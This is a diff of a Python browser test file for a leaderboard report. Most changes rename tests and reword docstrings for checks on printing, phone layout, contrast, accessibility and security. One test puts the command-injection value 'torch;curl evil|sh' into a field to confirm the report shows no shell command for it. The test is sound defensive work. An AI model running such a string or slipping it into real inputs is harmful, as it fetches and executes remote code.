@@ -1,6 +1,6 @@
-"""The report in a real browser: what it shows, does when clicked, and never does.
+"""Tests of the report in a real browser: contents, controls and safety.
 
-test_opening.py has the one check in a browser that every `make test` does.
+test_opening.py has the only browser check that `make test` runs.
 """
 
 import re
@@ -29,7 +29,7 @@ HOSTILE = [
 
 
 def column(page, name, table=0):
-    """The texts of one column of a board's table, from top to bottom."""
+    """Return the texts of a column of a leaderboard, from top to bottom."""
     return page.evaluate(
         """([table, name]) => {
              const board = document.querySelectorAll("table.board")[table];
@@ -148,7 +148,7 @@ def test_an_unranked_row_shows_its_reason(open_board):
     assert "mxnet" not in report_page.get_by_role("article").inner_text()
 
 
-def test_on_paper_all_details_are_shown_and_no_controls(open_board, board):
+def test_print_shows_all_details_and_no_controls(open_board, board):
     records, _ = board
     report_page = open_board(color_scheme="dark")
     report_page.emulate_media(media="print")
@@ -165,7 +165,7 @@ def test_on_paper_all_details_are_shown_and_no_controls(open_board, board):
 
 
 @pytest.mark.parametrize("hostile", [False, True])
-def test_a_phone_does_not_scroll_sideways(open_report, board, hostile):
+def test_page_fits_the_width_of_a_phone(open_report, board, hostile):
     records, certificates = board
     if hostile:
         long = {"framework": "w" * 10**6, "kernel": "w" * 10**6}
@@ -201,7 +201,7 @@ _COLOR_SCRIPT = """name => { const probe = document.body.appendChild(document.cr
 
 
 def _luminance(color):
-    """As WCAG 2 has it."""
+    """Return the relative luminance of a color, as WCAG 2 defines it."""
     parts = [int(channel) / 255 for channel in re.findall(r"\d+", color)]
     linear = [
         channel / 12.92 if channel <= 0.04045 else ((channel + 0.055) / 1.055) ** 2.4
@@ -213,7 +213,7 @@ def _luminance(color):
 
 
 def poison_record(record, text):
-    """The record with a string in every field that may hold one."""
+    """Return the record with `text` in every field that can hold a string."""
 
     def poison(value):
         if isinstance(value, str):
@@ -276,7 +276,7 @@ def test_hostile_strings_in_any_field_do_nothing(open_report, board):
     assert (
         report_page.evaluate(
             """() => [...document.querySelectorAll("*")].some(
-             one => [...one.attributes].some(a => a.name.startsWith("on") || a.name === "style"))"""
+             e => [...e.attributes].some(a => a.name.startsWith("on") || a.name === "style"))"""
         )
         is False
     )
@@ -296,7 +296,7 @@ def test_a_hostile_string_can_still_be_read(open_report, board):
     assert "<b>\\u202eevil\\x00</b>" in report_page.evaluate("document.body.textContent")
 
 
-def test_a_name_unfit_for_a_shell_has_no_command(open_report, board):
+def test_name_unsafe_for_a_shell_has_no_command(open_report, board):
     records, certificates = board
     hostile_record = vary_record(
         records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001
@@ -323,7 +323,7 @@ def test_the_content_policy_stops_injected_scripts(chromium, board, tmp_path):
     report_page.close()
 
 
-def test_a_screen_reader_gets_names_and_targets(open_board):
+def test_tables_figures_and_links_are_labelled(open_board):
     report_page = open_board()
     assert report_page.locator("table:not(:has(> caption))").count() == 0
     figures = report_page.locator("figure > svg")
@@ -342,7 +342,7 @@ def test_a_screen_reader_gets_names_and_targets(open_board):
         assert report_page.locator(f"[id='{target.get_attribute('href')[1:]}']").count() == 1
 
 
-def test_the_first_key_skips_to_the_leaderboards(open_board):
+def test_the_first_tab_stop_skips_to_the_leaderboards(open_board):
     report_page = open_board()
     report_page.keyboard.press("Tab")
     skip = report_page.get_by_role("link", name="Skip to the leaderboards")
